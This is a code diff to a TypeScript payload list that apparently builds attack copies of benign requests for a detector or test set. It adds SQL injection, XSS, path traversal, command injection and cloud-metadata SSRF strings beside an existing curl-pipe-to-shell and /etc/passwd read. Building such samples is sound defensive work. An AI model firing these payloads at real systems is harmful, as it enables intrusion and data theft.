@@ -21,11 +21,19 @@ export const CONTRAST_PAYLOADS: readonly string[] = Object.freeze([
   "; cat /etc/passwd",
   "$(curl http://203.0.113.7/x|sh)",
   "{{7*7}}${7*7}",
+  "1 AND SLEEP(5)-- ",
+  "1; WAITFOR DELAY '0:0:5'--",
+  "admin'-- ",
+  "<svg onload=alert(1)>",
+  "javascript:alert(1)",
+  "..%2f..%2f..%2f..%2fetc%2fpasswd",
+  "| id",
+  "http://169.254.169.254/latest/meta-data/",
 ]);
 
 /** Contrasts made per uploaded request, and in all. */
-export const CONTRASTS_PER_RECORD = 2;
-export const MAX_CONTRASTS = 64;
+export const CONTRASTS_PER_RECORD = 4;
+export const MAX_CONTRASTS = 128;
 
 /**
  * Attack copies of benign requests: each request's first few contrasts, a payload in place of one of its
